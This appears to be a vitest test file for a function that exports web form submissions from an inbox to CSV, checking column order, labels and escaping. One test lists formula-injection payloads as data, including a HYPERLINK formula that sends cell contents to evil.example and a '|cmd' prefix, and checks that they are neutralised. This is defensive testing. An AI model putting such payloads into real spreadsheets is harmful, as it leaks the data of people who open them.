import { expect, test } from 'vitest'
import { inboxCsv } from './inbox-csv.ts'
import { sampleSubmission } from './sample-submission.ts'

function getLines(csv: string) {
  return csv.replace('\uFEFF', '').split('\r\n')
}

test('one form has its own columns in the order of the form, and a spreadsheet reads it as UTF-8', () => {
  const csv = inboxCsv({ form: 'contact_requests', submissions: [sampleSubmission()] })
  expect(csv.startsWith('\uFEFF')).toBe(true)
  expect(getLines(csv)).toEqual([
    '"Received","Status","Name","Email","Company","Interested in","Phone","Message","Page","Campaign","Notes","Assigned to","Last changed","Changed by","Id"',
    '"2026-11-21T18:00:00.123456+00:00","New","Ada Lovelace","ada@engines.example","","","","A role in Leeds.","/contact","","","","","","0b6a3a52-8f1c-4d7c-9a10-2f8f2c3f1a11"',
    '',
  ])
})

test('several forms have a column for every field of one of them, in the words of the inbox', () => {
  const contact = sampleSubmission({
    status: 'in_progress',
    fields: { name: 'Ada', email: 'a@b.example', phone: '020 7946', interested_in: 'product_demo' },
    campaign: { utm_source: 'news letter' },
  })
  const application = sampleSubmission({
    form: 'white_glove_applications',
    fields: { full_name: 'Ada', company_email: 'a@b.example', company_size: '11–50' },
  })
  const [head, ...rows] = getLines(inboxCsv({ form: null, submissions: [contact, application] }))
  expect(head).toBe(
    '"Received","Status","Form","Name","Email","Company","Summary","Interested in","Phone","Message","Company size","Position to fill","Hiring process","Page","Campaign","Notes","Assigned to","Last changed","Changed by","Id"',
  )
  expect(rows[0]).toContain(
    '"In progress","Contact requests","Ada Lovelace","ada@engines.example","Engines Ltd","A role in Leeds.","Product demo","020 7946","","","","","/contact","utm_source=news+letter"',
  )
  expect(rows[1]).toContain('"White-glove applications"')
  expect(rows[1]).toContain('"A role in Leeds.","","","","11–50","",""')
})

test('the choices of one form are words', () => {
  const submissions = [sampleSubmission({ fields: { interested_in: 'product_demo' } })]
  expect(inboxCsv({ form: 'contact_requests', submissions })).toContain(',"Product demo",')
})

test('a column that nobody has named yet is exported by its name in the database', () => {
  const submissions = [sampleSubmission({ fields: { head_count: 12, post_id: 'a' } })]
  for (const form of ['contact_requests', null] as const) {
    const [head = '', row] = getLines(inboxCsv({ form, submissions }))
    expect(head).toContain('"Message","Head count","Page"')
    expect(row).toContain(',"12","/contact"')
  }
})

test('no cell begins what a spreadsheet would take for a formula', () => {
  const dangerous = [
    '=HYPERLINK("https://evil.example?"&A1)',
    '+44 20 7946 0000',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '  =1',
    '|cmd',
    '＝1+1',
    '\n=1',
  ]
  for (const summary of dangerous) {
    const csv = inboxCsv({ form: null, submissions: [sampleSubmission({ summary })] })
    expect(csv, JSON.stringify(summary)).toContain(`,"'${summary.replaceAll('"', '""')}",`)
  }
})

test('quotes, separators and line ends stay inside their cell', () => {
  const summary = 'He said "no"; then,\r\nleft\t=1'
  const csv = inboxCsv({ form: null, submissions: [sampleSubmission({ summary })] })
  expect(csv).toContain('"He said ""no""; then,\r\nleft\t=1"')
})

test('nothing found is a file with a head', () => {
  expect(getLines(inboxCsv({ form: 'partner_messages', submissions: [] }))).toHaveLength(2)
})
